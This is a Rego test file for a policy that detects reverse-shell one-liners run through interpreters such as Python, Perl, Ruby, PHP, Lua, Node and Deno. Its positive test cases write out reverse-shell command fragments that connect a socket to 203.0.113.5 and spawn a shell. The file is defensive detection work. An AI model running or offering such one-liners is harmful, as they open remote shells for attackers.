package hasp.policies.process.reverse_shell_interpreter_test

import data.hasp.policies.process.reverse_shell_interpreter
import data.hasp.testing

found(subject) := violations if {
	violations := reverse_shell_interpreter.violations with input as subject
}

test_finds_one_liners[command] if {
	some command in [
		["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',1));os.dup2(s.fileno(),0)"],
		["python", "-c", "import socket as x,pty;pty.spawn('bash')"],
		["perl", "-e", "use Socket;connect(S,x);open(STDIN,'>&S');exec('/bin/sh -i');"],
		["perl", "-MIO", "-e", "$c=new IO::Socket::INET();system('/bin/bash')"],
		["ruby", "-rsocket", "-e", "f=TCPSocket.open('203.0.113.5',1).to_i;exec sprintf('/bin/dash -i <&%d')"],
		["php", "-r", "$s=fsockopen('203.0.113.5',1);proc_open('x',[],$p);"],
		["php", "-r", "$s=fsockopen('203.0.113.5',1);shell_exec('x <&3');"],
		["lua", "-e", "require('socket');os.execute('x <&3')"],
		["node", "-e", "require('net').connect(1,'203.0.113.5');require('child_process').spawn('sh')"],
		["node", "--eval", "net.connect(1);cp.spawn('/bin/zsh')"],
		["deno", "eval", "sock;'/bin/ash'"],
		["python", "-E", "-c", "socket cmd.exe"],
	]
	count(found(testing.commanded(command))) == 1
}

test_leaves_others[command] if {
	some command in [
		["python3", "-c", "import socket;socket.create_connection(('db',5432))"],
		["python3", "-c", "import pty;pty.spawn('/bin/bash')"],
		["python3", "/app/socket.py", "/bin/sh"],
		["node", "server.js", "--socket", "/bin/sh"],
		["python3", "-m", "http.server"],
	]
	count(found(testing.commanded(command))) == 0
}

test_points_at_the_arguments if {
	testing.paths(found(testing.commanded(["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',1));os.dup2(s.fileno(),0)"]))) == {"/event/process/args"}
}
